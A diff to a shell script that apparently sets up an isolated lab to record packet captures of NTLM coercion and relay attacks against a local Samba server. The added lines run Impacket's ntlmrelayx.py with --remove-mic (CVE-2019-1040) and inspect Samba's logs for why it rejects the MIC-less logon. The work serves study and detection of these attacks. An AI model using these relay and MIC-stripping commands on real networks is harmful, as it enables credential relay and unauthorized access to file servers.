@@ -84,6 +84,8 @@ cat > "$dir/smb.conf" <<CONF
   ncalrpc dir = $dir/ncalrpc
   log file = $dir/log/%m.log
   passdb backend = tdbsam
+  # (its log says why it refuses a logon)
+  log level = 3
   host msdfs = yes
   load printers = no
   printcap name = /dev/null
@@ -102,14 +104,15 @@ capture() {  # NAME CMD...: one scenario run in the client namespace, recorded o
   record mitm-sw mitm-br "" "$@"
 }
 
-# ntlmrelayx.py on the attacker, relaying what reaches its SMB server to Samba
+# ntlmrelayx.py on the attacker, relaying what reaches its SMB server to Samba (extra
+# arguments go to ntlmrelayx.py)
 relay() {
   # (it runs until its stdin ends: give it a FIFO that we hold open, read and write)
   [ -p "$WORK/relay.in" ] || mkfifo "$WORK/relay.in"
   exec 7<>"$WORK/relay.in"
   # ($! must be the relay itself, not a subshell: ip netns exec execs it)
   ip netns exec mitm-atk "$PY" "$IMPACKET/ntlmrelayx.py" -t "smb://$SRV" -smb2support --no-http-server --no-wcf-server --no-raw-server \
-    -ip "$LISTENER" < "$WORK/relay.in" > "$WORK/relay.log" 2>&1 &
+    -ip "$LISTENER" "$@" < "$WORK/relay.in" > "$WORK/relay.log" 2>&1 &
   RELAY=$!
   # (it loads all its protocol clients first: give it time; probing would be relayed)
   for _ in $(seq 300); do in_atk ss -ltn | grep -q ':445 ' && return 0; sleep 1; done
@@ -119,11 +122,16 @@ stop_relay() { kill "$RELAY" 2>/dev/null || true; wait "$RELAY" 2>/dev/null || t
 
 capture coerce-samba.pcap "$PY" "$HERE/coerce.py" "$SRV" "$USER" "$PASS" "$LISTENER"
 capture rpcclient-baseline.pcap rpcclient -U "$USER%$PASS" -c 'srvinfo;enumprinters;netshareenum' "$SRV"
-# the victim's smbclient to the attacker, relayed to Samba. (--remove-mic is not recorded:
-# Debian's ntlmrelayx.py 0.10 dies on its SMB1 path before it relays anything.)
+# the victim's smbclient to the attacker, relayed to Samba
 relay
 capture relay-smb.pcap smbclient "//$LISTENER/share" -U "$USER%$PASS" -c ls
 stop_relay
+# the same, the MIC dropped on the way (CVE-2019-1040)
+relay --remove-mic
+capture relay-smb-nomic.pcap smbclient "//$LISTENER/share" -U "$USER%$PASS" -c ls
+stop_relay
 # the same smbclient straight to Samba: the baseline
 capture smb-direct.pcap smbclient "//$SRV/share" -U "$USER%$PASS" -c ls
+# why Samba refused the MIC-less AUTHENTICATE
+grep -h "NTLMSSP_MIC" "$dir"/log/*.log || true
 ls -l "$OUT"/*.pcap
